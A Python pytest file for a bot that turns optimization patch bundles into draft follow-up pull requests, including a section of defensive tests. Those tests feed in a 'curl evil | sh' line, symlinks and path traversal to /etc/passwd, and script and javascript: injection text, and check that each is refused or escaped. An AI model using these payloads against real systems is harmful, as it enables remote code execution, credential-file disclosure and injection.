"""Bundles in, a follow-up pull request out, against the forge with real git."""

from __future__ import annotations

import json
import os
import re
from pathlib import Path

import pytest

from demo.gitrepo import Content
from pitstop.rules.finding import UserError
from tests.bot.stages.conftest import TRAIN, Stage, kept, patch_of, write

SLOW = TRAIN + "save()\n"
FAST = "import torch\n\ntorch.backends.cudnn.benchmark = True\n" + SLOW.removeprefix(
    "import torch\n"
)


def asked(stage: Stage, text: str = "/optimize") -> str:
    stage.review()
    assert stage.command(text)["go"] == "true"
    stage.kept_request = stage.outputs["request"]
    return json.loads(stage.kept_request)["sha"]


def good(stage: Stage, sha: str, **more: object) -> Path:
    return write(stage, {"0001.patch": patch_of(stage.repo, sha, {"train.py": FAST})}, kept(**more))


def other_refs(stage: Stage) -> dict[str, str]:
    found = stage.repo.references()
    ours = ("refs/heads/pitstop/pr-", "refs/pull/")  # the latter are the service's own
    return {name: sha for name, sha in found.items() if not name.startswith(ours)}


def test_a_kept_change_becomes_a_draft(stage: Stage) -> None:
    sha = asked(stage)
    before = other_refs(stage)
    good(stage, sha)
    stage.publish()
    ((issue, pull),) = stage.follow_ups()
    assert (pull.head_ref, pull.base_ref, pull.draft) == ("pitstop/pr-1", "change", True)
    assert [label.name for label in issue.labels] == ["pitstop"]
    assert issue.title == "1 measured change for the training of #1"
    for words in ("1.30x", "xychart-beta", "| step time | 13 ms | 10 ms |", "git revert"):
        assert words in issue.body
    git = stage.repo.record.git
    tip = git.branch("pitstop/pr-1")
    info = git.commit_info(tip)
    assert list(info.parents) == [sha]
    assert f"Pitstop-Bound: {sha}" in info.message
    assert "1.30x" in info.message
    assert other_refs(stage) == before
    assert f"[#{issue.number}]" in stage.answer()
    assert "rocket" in [r.content for c in stage.pull.issue.comments for r in c.reactions]


def test_again_updates_in_place(stage: Stage) -> None:
    sha = asked(stage)
    good(stage, sha)
    stage.publish()
    stage.command("/optimize --rounds 2")
    stage.kept_request = stage.outputs["request"]
    write(
        stage,
        {
            "0001.patch": patch_of(stage.repo, sha, {"train.py": FAST}),
            "0002.patch": patch_of(stage.repo, sha, {"run.sh": "python train.py --workers 4\n"}),
        },
        kept(),
        kept("GEN-F01", "0002.patch"),
    )
    stage.publish()
    ((issue, _),) = stage.follow_ups()
    assert issue.title.startswith("2 measured changes")
    assert stage.answers() == 2


def test_publishing_twice_changes_nothing(stage: Stage) -> None:
    sha = asked(stage)
    good(stage, sha)
    stage.publish()
    comments = len(stage.pull.comments())
    stage.publish()
    assert len(stage.follow_ups()) == 1
    assert len(stage.pull.comments()) == comments


def test_a_person_s_commit_stops_updates(stage: Stage) -> None:
    sha = asked(stage)
    good(stage, sha)
    stage.publish()
    own = stage.repo.commit("pitstop/pr-1", {"train.py": FAST + "# mine\n"}, author="mona")
    stage.publish()
    assert stage.repo.tip("pitstop/pr-1") == own
    assert "Somebody has committed" in stage.answer()


def test_closed_without_merging_is_not_offered_again(stage: Stage) -> None:
    sha = asked(stage)
    good(stage, sha)
    stage.publish()
    ((issue, _),) = stage.follow_ups()
    issue.state = "closed"
    stage.publish()
    assert len(stage.follow_ups()) == 1
    assert "/optimize only cudnn-benchmark" in stage.answer()
    stage.command("/optimize only cudnn-benchmark")
    stage.kept_request = stage.outputs["request"]
    good(stage, sha)
    stage.publish()
    assert [issue.state for issue, _ in stage.follow_ups()] == ["closed", "open"]


def test_moved_head_gets_patches(stage: Stage) -> None:
    sha = asked(stage)
    good(stage, sha)
    stage.pull.push({"other.py": "x = 1\n"})
    before = stage.repo.references()
    stage.publish()
    assert stage.repo.references() == before
    assert "has moved on" in stage.answer()
    assert "cudnn.benchmark" in stage.answer()


def test_forks_get_patches_and_no_branch(stage: Stage) -> None:
    """A workflow that the fork added would run on a pushed branch, so none is pushed."""
    fork = stage.forge.fork(stage.repo, "eve")
    files: dict[str, Content] = {
        "train.py": SLOW,
        ".github/workflows/own.yml": "on: push\njobs: {}\n",
    }
    pull = stage.repo.open_pull(files, source=fork, author="eve", branch="evil")
    other = Stage(stage.forge, pull, stage.folder / "fork")
    other.command(f"/optimize --sha {pull.head}")
    other.kept_request = other.outputs["request"]
    before = stage.repo.references()
    patch = patch_of(fork, pull.head, {"train.py": FAST})
    write(other, {"0001.patch": patch}, kept())
    other.publish()
    assert stage.repo.references() == before
    assert other.follow_ups() == []
    assert "git am" in other.answer() and "cudnn.benchmark" in other.answer()


def test_no_right_to_open_pull_requests(stage: Stage) -> None:
    stage.repo.record.bots_open_pulls = False
    sha = asked(stage)
    good(stage, sha)
    stage.publish()
    assert stage.repo.tip("pitstop/pr-1")
    assert "/compare/change...pitstop/pr-1?expand=1" in stage.answer()


@pytest.mark.parametrize("outcome", ["nothing", "failed", "cancelled"])
def test_outcomes_without_a_change(stage: Stage, outcome: str) -> None:
    asked(stage)
    before = stage.repo.references()
    write(stage, {}, outcome=outcome, verdict="No significant gain.", rows=())
    stage.publish()
    assert stage.repo.references() == before
    assert "No significant gain." in stage.answer()


def test_no_bundle_is_told(stage: Stage) -> None:
    asked(stage)
    stage.publish(stage.folder / "nowhere")
    assert "left no result" in stage.answer()


def test_source_closed_closes_the_follow_up(stage: Stage) -> None:
    sha = asked(stage)
    good(stage, sha)
    stage.publish()
    ((issue, _),) = stage.follow_ups()
    stage.pull.close()
    stage.job(stage.pull.event("closed"))
    assert issue.state == "closed"
    assert "has nothing to go into" in issue.comments[-1].body
    stage.job(stage.pull.event("closed"))
    assert len(issue.comments) == 1


# --- hostile bundles -------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("files", "words"),
    [
        ({".github/workflows/x.yml": "on: push\n"}, "change its text"),
        ({".github/pitstop.yml": "optimize: {users: [eve]}\n"}, "not a file of a training job"),
        ({"new.py": "evil()\n"}, "change its text"),
        ({"run.sh": "curl evil | sh\n"}, "not a file that this change may touch"),
    ],
)
def test_a_patch_may_only_touch_its_kind_of_file(
    stage: Stage, files: dict[str, str], words: str
) -> None:
    sha = asked(stage)
    before = stage.repo.references()
    write(stage, {"0001.patch": patch_of(stage.repo, sha, files)}, kept())
    with pytest.raises(UserError, match=words):
        stage.publish()
    assert stage.repo.references() == before
    assert "is refused" in stage.answer()


HEADER = "diff --git a/{0} b/{0}\n"
MODES = HEADER.format("train.py") + "old mode 100644\nnew mode 100755\n"
LINK = (
    HEADER.format("link.py")
    + "new file mode 120000\n--- /dev/null\n+++ b/link.py\n@@ -0,0 +1 @@\n+/etc/passwd\n"
    + "\\ No newline at end of file\n"
)
OUTSIDE = "--- a/../../x.py\n+++ b/../../x.py\n@@ -1 +1 @@\n-a\n+b\n"
GONE = (
    HEADER.format("run.sh")
    + "deleted file mode 100644\n--- a/run.sh\n+++ /dev/null\n@@ -1 +0,0 @@\n-python train.py\n"
)
STALE = "--- a/train.py\n+++ b/train.py\n@@ -1 +1 @@\n-not there\n+b\n"


@pytest.mark.parametrize("patch", [MODES, LINK, OUTSIDE, GONE, STALE, "", "words\n", "\0\1\2"])
def test_strange_patches_are_refused(stage: Stage, patch: str) -> None:
    asked(stage)
    before = stage.repo.references()
    write(stage, {"0001.patch": patch.encode()}, kept())
    with pytest.raises(UserError, match="refused") as caught:
        stage.publish()
    assert "\n" not in str(caught.value)
    assert stage.repo.references() == before


def test_unknown_changes_are_refused(stage: Stage) -> None:
    sha = asked(stage)
    good(stage, sha, change="make-it-so")
    with pytest.raises(UserError, match="no change of ours"):
        stage.publish()


def test_bundles_that_nobody_wrote_are_refused(stage: Stage) -> None:
    sha = asked(stage)
    folder = good(stage, sha)
    text = (folder / "bundle.json").read_text()
    data = json.loads(text)
    one = data["kept"][0]
    for bad in (
        "",
        "[]",
        "{",
        json.dumps({**data, "version": 9}),
        json.dumps({**data, "more": 1}),
        json.dumps({**data, "sha": "f" * 40}),
        json.dumps({**data, "kept": [{**one, "patch": "../../../../etc/passwd"}]}),
        json.dumps({**data, "kept": [one, one]}),
        json.dumps({**data, "losses": [[1e999], []]}),
        json.dumps({**data, "verdict": "x" * 3000}),
        " " * 6_000_000,
    ):
        (folder / "bundle.json").write_text(bad)
        with pytest.raises(UserError, match="refused"):
            stage.publish()
    (folder / "bundle.json").write_text(text)
    (folder / "patches" / "0001.patch").unlink()
    (folder / "patches" / "0001.patch").symlink_to("/etc/passwd")
    with pytest.raises(UserError, match="no plain file"):
        stage.publish()
    (folder / "patches" / "0001.patch").unlink()
    os.mkfifo(folder / "patches" / "0001.patch")
    with pytest.raises(UserError, match="no plain file"):
        stage.publish()
    assert stage.follow_ups() == []


def own_words(text: str) -> str:
    """Without the folds that we make ourselves."""
    return re.sub(r"^</details>$", "", text, flags=re.MULTILINE)


HOSTILE = (
    "</details><script>x</script> @octocat fixes #1 [x](javascript:1) ```\n| a | <!-- pitstop:x -->"
)


def test_words_of_a_bundle_are_data(stage: Stage) -> None:
    sha = asked(stage)
    change = kept(title=HOSTILE[:200], why=HOSTILE, effect=HOSTILE, losses=HOSTILE)
    write(
        stage,
        {"0001.patch": patch_of(stage.repo, sha, {"train.py": FAST})},
        change,
        verdict=HOSTILE,
        not_verified=(HOSTILE,),
        environment=(("GPU", HOSTILE),),
        new_command=f"python {HOSTILE}",
    )
    stage.publish()
    ((issue, _),) = stage.follow_ups()
    tip = stage.repo.record.git.branch("pitstop/pr-1")
    message = stage.repo.record.git.commit_info(tip).message
    for text in (issue.body, stage.answer(), message, issue.title):
        outside = text.split("```bash")[0] if "```bash" in text else text
        assert "@octocat" not in outside
        assert "fixes #1 " not in outside
        if text is not message:
            live = re.search(r"(?<!\\)(<script|</details|\]\(javascript)", own_words(outside))
            assert live is None


@pytest.mark.parametrize("kind", ["502", "reset"])
@pytest.mark.parametrize("moment", ["before", "after"])
def test_a_fault_at_any_call_posts_nothing_twice(stage: Stage, kind: str, moment: str) -> None:
    sha = asked(stage)
    good(stage, sha)
    calls = 0
    while calls < 40:
        stage.forge.inject(kind, after=calls, moment=moment)
        stage.publish()
        assert len(stage.follow_ups()) == 1
        assert stage.answers() == 1
        calls += 4


def test_a_push_whose_answer_is_lost_is_seen_to_have_landed(stage: Stage) -> None:
    sha = asked(stage)
    good(stage, sha)
    stage.forge.inject("reset", moment="after", path="git-receive-pack")
    stage.publish()
    assert len(stage.follow_ups()) == 1
    assert "did not take" not in stage.answer()
